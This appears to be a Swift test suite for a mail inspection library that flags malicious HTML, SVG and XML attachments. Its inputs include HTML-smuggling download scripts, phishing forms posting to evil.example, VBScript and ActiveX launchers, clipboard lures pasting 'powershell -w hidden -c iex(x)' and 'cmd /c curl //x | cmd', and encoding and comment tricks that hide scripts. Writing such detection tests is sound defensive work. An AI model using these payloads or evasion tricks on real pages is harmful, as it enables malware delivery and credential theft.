import Mail
import Testing

@testable import Inspection

/// What pages do when they are opened as files, and what they may not do in a message's own text.
@Suite struct MarkupCheckTests {
  private func rules(_ page: String, _ name: String = "a.html") -> Set<String> {
    let report = MessageInspectorTests.report(Array(page.utf8), .file(name: name))
    return Set(report.findings.map(\.rule))
  }

  private func verdict(_ page: String, _ name: String = "a.html") -> Verdict {
    MessageInspectorTests.report(Array(page.utf8), .file(name: name)).verdict
  }

  private let blob = String(repeating: "TVqQAAMAAAAEAAAA", count: 100)

  @Test func `a page that builds a file is malicious`() {
    let page = """
      <html><script>var d = atob("\(blob)"); var b = new Blob([d]);
      var a = document.createElement('a'); a.href = URL.createObjectURL(b);
      a.download = 'invoice.iso'; a.click();</script></html>
      """
    #expect(rules(page).contains("html.smuggling"))
    #expect(verdict(page) == .malicious)
  }

  @Test func `a page that clicks what it built is malicious, a chart that can be saved is not`() {
    let builds = """
      var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([x(key)]));
      a['cli' + 'ck']();
      """
    #expect(verdict("<html><script>\(builds)</script></html>") == .malicious)
    let library = String(repeating: "function draw(a){return a};", count: 2000)
    let chart = rules("<html><script>\(library)\(builds)</script></html>")
    #expect(chart.contains("html.builds-file") && !chart.contains("html.smuggling"))
  }

  @Test func `a download from the link itself is smuggling, too`() {
    let page = "<html><a download=x.zip href='data:application/zip;base64,\(blob)'>Open</a></html>"
    #expect(rules(page).contains("html.smuggling"))
  }

  @Test func `a page that asks for a password is phishing`() {
    let page = "<html><form action='https://evil.example/x'><input type=PassWord></form></html>"
    #expect(rules(page) == ["html.password-form"])
    #expect(verdict(page) == .phishing)
  }

  @Test(arguments: [
    "name=email><input name=pw type=text autocomplete=current-password",
    "placeholder='パスワード'", "style='-webkit-text-security: disc'", "id=UserPassword type=tel",
  ])
  func `a field that is a password's by all but its type is one`(field: String) {
    let page = "<html><form action='https://evil.example/x'><input \(field)></form></html>"
    #expect(rules(page) == ["html.password-form"])
    #expect(rules("<html><form><input name=q type=search><input type=submit></form></html>") == [])
  }

  @Test(arguments: [
    "<script language=VBScript>CreateObject(\"WScript.Shell\").Run \"calc\"</script>",
    "<script>new ActiveXObject('Shell.' + 'Application').ShellExecute('calc')</script>",
    "<body onload='GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create(\"calc\")'>",
  ])
  func `a page that only Windows' own host can run is an application`(page: String) {
    for name in ["a.html", "file 1", "readme.txt"] {
      #expect(rules("<html>\(page)</html>", name).contains("html.runs-programs"))
      #expect(verdict("<html>\(page)</html>", name) == .malicious)
    }
    let old = "<html><script>new ActiveXObject('Microsoft.XMLHTTP')</script></html>"
    #expect(rules(old) == ["html.script"])
  }

  @Test(arguments: [
    "<script>b.onclick = () => navigator.clipboard.writeText('powershell -w hidden -c iex(x)')",
    "<script>x.value = 'cmd /c curl //x | cmd'; x.select(); document.execCommand('copy')",
    "<script>navigator['clipboard']['writeText'](atob('cG93ZXJzaGVsbA=='))",
    "<p>Press <b>Win</b> + <b>R</b></p><script>navigator.clipboard.writeText(c.innerText)",
  ])
  func `a page that hands a command to be pasted is malicious`(page: String) {
    let page = "<html>\(page)</script></html>"
    #expect(verdict(page) == .malicious && rules(page).contains("html.hands-command"))
  }

  @Test func `a page that copies its link is not`() {
    let page = "<html><script>navigator.clipboard.writeText(link.href)</script></html>"
    #expect(rules(page) == ["html.script"])
  }

  @Test func `a form that a script writes is found behind its encodings`() {
    let inner = "<form action='https://evil.example/'><input type='password' name='p'></form>"
    let percent = inner.utf8.map { "%" + String(Int($0) + 0x100, radix: 16).dropFirst() }.joined()
    #expect(
      rules("<html><script>document.write(unescape('\(percent)'))</script></html>")
        .isSuperset(of: ["html.password-form", "html.hidden-code"]))
  }

  @Test func `an invisible start tag and references hide nothing`() {
    let page = "<html><A HREF='&#106;ava&#x0A;script&colon;location.replace(\"//x\")'>x</A></html>"
    #expect(rules(page).contains("html.script-redirect"))
    #expect(
      rules("<html><!-- never closed <input type=password></html>").contains("html.password-form"))
  }

  @Test func `a picture with a script is suspicious, one that leads away is malicious`() {
    let open = "<svg xmlns='http://www.w3.org/2000/svg'>"
    #expect(verdict(open + "<script>alert(1)</script></svg>", "a.svg") == .suspicious)
    #expect(verdict(open + "<script>window.location = 'x'</script></svg>", "a.svg") == .malicious)
    #expect(verdict(open + "<circle r='1'/></svg>", "a.svg") == .clean)
  }

  @Test func `a newsletter's own markup is clean`() {
    let lines = [
      "From: shop@example.jp", "Date: Wed, 01 Apr 2026 09:00:00 +0900", "Content-Type: text/html",
      "",
      "<html><head><script type=\"application/ld+json\">{\"a\":1}</script></head><body>",
      "<form action='https://shop.example.jp/s'><input name=q></form>",
      "<img src='data:image/png;base64,AAAA'><a href='https://shop.example.jp/'>Shop</a>",
      "</body></html>",
    ]
    let report = MessageInspectorTests.report(lines)
    #expect(report.findings.isEmpty)
  }

  @Test func `what is not read to its end is told`() {
    var page = "<form action=http://a.example/><input type=password></form>"
    for _ in 0..<3 {
      page = "<script>document.write(atob('\(Base64.encode(Array(page.utf8)))'))</script>"
    }
    #expect(!rules(page).contains("html.unread"))
    for _ in 0..<3 {
      page = "<script>document.write(atob('\(Base64.encode(Array(page.utf8)))'))</script>"
    }
    #expect(rules(page).contains("html.unread"))
    #expect(rules("<html>" + String(repeating: "text ", count: 2 << 20)).contains("html.unread"))
  }

  @Test func `traps cost no more than their octets`() {
    let limit = 200_000
    for trap in [
      "<", "<!--", "<a ", "<a x=\"", "</", "<script", "<script></scrip", "&#", "<a b='&",
    ] {
      let page = "<html>" + String(repeating: trap, count: limit / trap.utf8.count)
      let start = ContinuousClock.now
      _ = rules(page)
      #expect(start.duration(to: .now) < .seconds(20), "\(trap)")
    }
  }

  private var hidden: String {
    "<script>var d=atob('\(blob)');l.href=URL.createObjectURL(new Blob([d]));l.click()</script>"
  }

  @Test(arguments: [
    "<style><!--</style>{}-->", "<!-- --!>{} -->", "<?x <!-- ?>{} -->", "</x <!-- >{} -->",
    "<!-- <a x=\" -->{}<!-- \"> -->", "<!--<script type='application/json'>-->{}",
    "<svg><style><!-- </style><a x=\" --></style></svg>{}<!-- \"> -->",
    "<![CDATA[<!--]]>{}<!-- -->",
  ])
  func `no comment, quote or style hides a script`(frame: String) {
    let page = "<html>" + frame.replacing("{}", with: hidden)
    #expect(rules(page).contains("html.smuggling"))
  }

  @Test func `content that is cut up, or stands beside the script, is smuggled all the same`() {
    let sink = "l.href=URL.createObjectURL(new Blob([atob(d)]));l.download='a.zip'"
    let pieces = stride(from: 0, to: blob.utf8.count, by: 32).map { start in
      "'" + String(blob.dropFirst(start).prefix(32)) + "'"
    }
    for source in [
      "<script>var d=[\(pieces.joined(separator: ","))].join('');\(sink)</script>",
      "<script>var d=\(pieces.joined(separator: "+"));\(sink)</script>",
      "<p id=p hidden>\(blob)</p><script>var d=p.innerText;\(sink)</script>",
      "<input id=p value='\(blob)'><script>var d=p.value;\(sink)</script>",
    ] {
      #expect(rules("<html>" + source).contains("html.smuggling"))
    }
    let chart = "<html><img src='data:image/png;base64,\(blob)'><script>\(sink)</script>"
    #expect(!rules(chart).contains("html.smuggling"))
  }

  @Test func `pages and scripts in addresses are read`() {
    let inner = hidden.replacing("<", with: "&lt;").replacing("'", with: "&#39;")
    #expect(rules("<html><iframe srcdoc='\(inner)'></iframe>").contains("html.smuggling"))
    let script = Base64.encode(Array("l.href=URL.createObjectURL(b);l.click()".utf8))
    let page = "<html><script src='data:text/javascript;base64,\(script)'></script>"
    #expect(rules(page).contains("html.smuggling"))
    #expect(
      rules("<html><script src='https://a.example/x.js'></script>").contains("html.remote-script"))
  }

  @Test(arguments: [
    ("top['loc'+'ation']['repl'+'ace']('//a.example')", "html.script-redirect"),
    ("window['ev'+'al'](window['at'+'ob'](s))", "html.hidden-code"),
    ("location.href='data:application/octet-stream;ba'+'se64,'+s", "html.smuggling"),
  ])
  func `words that are put together are words`(script: String, rule: String) {
    #expect(rules("<html><script>\(script)</script>").contains(rule))
    let prefixed = "<?xml version='1.0'?><x:html xmlns:x='a'><x:script>\(script)</x:script>"
    #expect(rules(prefixed, "a.xml").contains(rule))
  }

  @Test func `links that make Windows act are told, in a text as well`() {
    let link = "<a href='search-ms:query=a&amp;crumb=location:x'>Open</a>"
    #expect(verdict("<html>" + link) == .malicious)
    let report = MessageInspectorTests.report([
      "From: a@example.jp", "Date: Wed, 01 Apr 2026 09:00:00 +0900", "Content-Type: text/html", "",
      "<html>" + link,
    ])
    #expect(report.findings.contains { $0.rule == "html.shell-address" })
  }

  @Test func `a picture is one by its name, and entities spell its tags`() {
    let open = "<svg xmlns='http://www.w3.org/2000/svg'>"
    let padding = "<!--" + String(repeating: "x", count: 20_000) + "-->"
    #expect(rules(padding + open + "<script>a()</script></svg>", "a.svg").contains("svg.script"))
    let entity = "<!DOCTYPE svg [<!ENTITY x \"&#60;script>a()&#60;/script>\">]>"
    #expect(rules(entity + open + "&x;</svg>", "a.svg").contains("svg.script"))
  }

  @Test func `UTF-16 is read whatever letters stand first`() {
    let page = "<html>" + String(repeating: "\u{6F22}", count: 300) + hidden
    let octets: [UInt8] = [0xFF, 0xFE] + page.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
    let report = MessageInspectorTests.report(octets, .file(name: "a.html"))
    #expect(report.findings.contains { $0.rule == "html.smuggling" })
  }

  @Test func `tags within the quotes of others are read up to a bound`() {
    let trap = "<html><a " + String(repeating: "x=\"<b\" ", count: 20_000)
    #expect(rules(trap).contains("html.unread"))
  }
}
